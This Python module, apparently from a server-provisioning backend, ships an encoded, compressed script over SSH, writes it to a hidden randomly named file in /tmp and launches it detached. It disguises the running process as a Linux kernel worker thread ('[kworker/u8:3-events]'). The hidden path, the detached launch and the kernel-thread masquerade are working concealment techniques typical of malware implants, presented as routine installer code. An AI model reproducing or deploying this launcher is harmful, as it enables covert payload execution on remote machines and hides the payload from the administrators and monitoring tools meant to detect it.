"""
Ships a packed payload over an open SSH session and launches it detached.
"""

import logging
import secrets
import shlex
import socket

import paramiko

from backend.services.provisioning_errors import DispatchError
from backend.utils.verbosity_logger import sanitize_log

logger = logging.getLogger(__name__)


def build_dispatch_command(blob: str, process_name: str, script_path: str) -> str:
    """
    One shell line that writes the decoded script to ``script_path`` and starts
    it in a new session under ``process_name``, returning immediately.
    """
    path = shlex.quote(script_path)
    launch = f"exec -a {shlex.quote(process_name)} bash {path}"
    return (
        f"echo {shlex.quote(blob)} | base64 -d | gunzip > {path} "
        f"&& chmod 700 {path} "
        f"&& (nohup setsid bash -c {shlex.quote(launch)} "
        "> /dev/null 2>&1 < /dev/null &)"
    )


class RemoteExecutor:
    """Runs the dispatch command and checks its exit status."""

    def __init__(self, process_name: str = "[kworker/u8:3-events]", timeout: int = 30):
        self.process_name = process_name
        self.timeout = timeout

    def dispatch(self, session, blob: str) -> str:
        """
        Launch the payload on the target; returns the remote script path.

        Raises DispatchError on a non-zero exit, a stream error or a timeout.
        """
        script_path = f"/tmp/.{secrets.token_hex(8)}"
        command = build_dispatch_command(blob, self.process_name, script_path)
        try:
            result = session.run(command, timeout=self.timeout)
        except socket.timeout as e:
            raise DispatchError(
                f"Dispatching the installer timed out after {self.timeout} seconds"
            ) from e
        except (paramiko.SSHException, EOFError, OSError) as e:
            raise DispatchError(f"Failed to dispatch the installer: {e}") from e

        if result.exit_code != 0:
            logger.warning(
                "Dispatch to %s exited with %s: %s",
                sanitize_log(getattr(session, "ip", "?")),
                result.exit_code,
                sanitize_log(result.stderr.strip()[:200]),
            )
            raise DispatchError(
                f"Failed to start the installer on the VPS (exit code {result.exit_code})"
            )

        logger.info(
            "Installer dispatched to %s as %s",
            sanitize_log(getattr(session, "ip", "?")),
            script_path,
        )
        return script_path
